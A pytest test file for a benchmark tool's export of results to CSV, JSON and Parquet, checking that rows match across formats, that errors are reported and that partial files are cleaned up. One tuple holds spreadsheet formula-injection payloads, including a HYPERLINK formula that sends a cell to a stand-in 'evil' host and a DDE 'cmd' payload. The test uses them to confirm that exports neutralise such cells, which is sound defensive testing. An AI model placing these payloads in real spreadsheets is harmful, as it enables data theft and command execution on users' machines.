"""Results as tables: CSV, JSON and Parquet have the same rows, and no cell is a formula."""

from __future__ import annotations

import csv
import json
import resource
import subprocess
import sys
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import pytest

from perfrun.benchmark import main
from perfrun.exchange.rows import COLUMNS
from tests.summaries import summary, write

SECRET = "hunter2hunter2"


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    document = summary(
        wall_time=0.0359,
        metrics={"images_per_second": 9.5, "loss": -0.25},
        commits={"models": "ab" * 20},
        label="night",
        timestamp=1.7e9 + 0.25,
    )
    document["ml_framework_info"] = {"name": "torch", "version": "2.13.0"}
    document["perfrun"]["series"] = [
        {
            "name": "spin",
            "statistics": {"median_s": 0.0359, "median_low_s": 0.0289, "median_high_s": 0.0383},
        }
    ]
    failed = summary(name="failed", status="failed", timestamp=1.7e9 + 60, run_id="second")
    failed["perfrun"]["outcome"]["reason"] = "ValueError: no"
    del failed["process_info"]["max_rss"]
    write(tmp_path / "ws" / "output", document, failed)
    return tmp_path / "ws"


def export(workspace: Path, *words: str) -> int:
    return main(["export", f"--workspace={workspace}", *words])


def of_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_a_row_is_a_metric_of_a_trial_with_all_that_identifies_it(
    workspace: Path, tmp_path: Path
) -> None:
    assert export(workspace, f"--json={tmp_path / 'out.json'}") == 0
    rows = json.loads((tmp_path / "out.json").read_text())
    assert [row["metric"] for row in rows] == [
        "wall_time", "images_per_second", "loss", "peak_rss_bytes", None,
    ]  # fmt: skip
    first, last = rows[0], rows[-1]
    assert (first["value"], first["unit"], first["direction"]) == (0.0359, "s", "lower")
    assert (first["low"], first["high"], rows[2]["low"]) == (0.0289, 0.0383, None)
    assert rows[1]["unit"] == "1/s"
    assert first["time"] == "2023-11-14T22:13:20.250000Z"
    assert (first["commit"], first["commits"]) == ("ab" * 20, f"models={'ab' * 20}")
    assert (first["framework"], first["framework_version"]) == ("torch", "2.13.0")
    assert (first["python_version"], first["grade"], first["label"]) == ("3.11.2", "A", "night")
    assert (last["outcome"], last["reason"], last["value"]) == ("failed", "ValueError: no", None)
    assert last["framework"] is None


def test_the_three_formats_have_the_same_rows(workspace: Path, tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    for form in ("csv", "json", "parquet"):
        assert export(workspace, f"--{form}={tmp_path / form}") == 0
    expected = json.loads((tmp_path / "json").read_text())
    table = parquet.read_table(tmp_path / "parquet")
    assert table.schema.names == [column.name for column in COLUMNS]
    kinds = {name: str(table.schema.field(name).type) for name in table.schema.names}
    assert (kinds["value"], kinds["trial_id"], kinds["disturbed"]) == ("double", "int32", "bool")
    assert kinds["time"] == "timestamp[us, tz=UTC]"
    for row, wanted in zip(table.to_pylist(), expected, strict=True):
        when = datetime.fromisoformat(wanted["time"].replace("Z", "+00:00"))
        assert row == {**wanted, "time": when.astimezone(timezone.utc)}
    for text_row, wanted in zip(of_csv(tmp_path / "csv"), expected, strict=True):
        for name, value in wanted.items():
            shown = "" if value is None else str(value)
            assert text_row[name] == (shown.lower() if isinstance(value, bool) else shown), name


FORMULAS = (
    '=HYPERLINK("http://evil/"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1",
    " =1", "\uff1d1", "|cmd", "%0A", "a\n=1", 'a";=1,"b', f"=x token={SECRET}", "\x1b]0;x\x07",
)  # fmt: skip


def test_no_cell_of_a_csv_is_a_formula_another_row_or_a_secret(tmp_path: Path) -> None:
    documents = [
        summary(name=f"t{number}", label=text, metrics={text: -1.5}, commits={text: "ab" * 20})
        for number, text in enumerate(FORMULAS)
    ]
    write(tmp_path / "ws" / "output", *documents)
    assert export(tmp_path / "ws", f"--csv={tmp_path / 'out.csv'}") == 0
    content = (tmp_path / "out.csv").read_bytes().decode("utf-8")
    assert SECRET not in content
    assert all(line.isprintable() for line in content.split("\n"))
    rows = of_csv(tmp_path / "out.csv")
    assert len(rows) == content.count("\n") - 1
    assert {
        row["value"] for row in rows if row["metric"] not in ("wall_time", "peak_rss_bytes")
    } == {"-1.5"}  # a number is no text
    for row in rows:
        assert None not in row  # as many cells as columns
        for name, cell in row.items():
            if name != "value":
                assert cell.strip()[:1] not in tuple("=+-@|%\uff1d"), (name, cell)
    kept = {row["label"] for row in rows}
    assert "'-2+3" in kept
    assert "a\\n=1" in kept


def test_all_results_are_read_one_by_one_and_rows_written_in_parts(tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    many = {f"metric_{number}": float(number) for number in range(25_000)}
    write(tmp_path / "ws" / "output", summary(metrics=many), summary(metrics=many))  # one, copied
    (tmp_path / "ws" / "output" / "bad").mkdir()
    (tmp_path / "ws" / "output" / "bad" / "perfzero_summary.json").write_text("{")
    assert export(tmp_path / "ws", f"--parquet={tmp_path / 'out'}") == 0
    table = parquet.read_table(tmp_path / "out", columns=["value"])
    assert table.num_rows == 25_002
    assert table.column("value")[-2].as_py() == 24_999.0


def test_words_choose_as_for_compare(workspace: Path, capsys: pytest.CaptureFixture[str]) -> None:
    def outcomes(*words: str) -> list[str]:
        capsys.readouterr()
        assert export(workspace, "--json=-", *words) == 0
        rows: list[dict[str, Any]] = json.loads(capsys.readouterr().out)
        return [row["outcome"] for row in rows]

    assert outcomes("last") == ["failed"]
    assert main(["baseline", "set", "b", "night", f"--workspace={workspace}"]) == 0
    assert outcomes("b", "night") == ["passed"] * 4
    assert outcomes("--methods=pkg.*", "last", "b") == ["failed", *["passed"] * 4]


def test_what_cannot_be_written_is_one_line_and_leaves_nothing(
    workspace: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    there = tmp_path / "there"
    there.write_text("mine")
    (tmp_path / "link").symlink_to(tmp_path / "nowhere")
    for words, why in (
        ([f"--csv={there}"], "is there already"),
        ([f"--csv={tmp_path / 'link'}"], "is there already"),
        ([f"--csv={there / 'x'}"], "--csv="),
        (["--csv=a", "--json=b"], "one format at a time"),
        (["--csv=a", "--format=bmf"], "one format at a time"),
        (["--csv=a", "--output=b"], "leave out --output"),
        (["--csv=a", "--methods=none"], "there is no trial"),
        (["--csv=a", "nothing"], "neither a folder nor"),
        ([], "--format is missing"),
    ):
        assert export(workspace, *words) == 2
        said = capsys.readouterr().err
        assert why in said
        assert said.count("\n") == 1
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    assert export(workspace, f"--parquet={tmp_path / 'p'}") == 2
    assert "pip install '.[parquet]'" in capsys.readouterr().err
    assert there.read_text() == "mine"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["link", "there", "ws"]


def test_half_a_table_is_removed_when_the_disk_takes_no_more(
    workspace: Path, tmp_path: Path
) -> None:
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (1000, 1000))

    words = ["export", f"--workspace={workspace}", f"--csv={tmp_path / 'out'}"]
    done = subprocess.run(
        [sys.executable, "-m", "perfrun", *words],
        capture_output=True,
        text=True,
        check=False,
        preexec_fn=limit,
    )
    assert (done.returncode, done.stderr.count("\n")) == (2, 1), done.stderr
    assert "File too large" in done.stderr
    assert not (tmp_path / "out").exists()
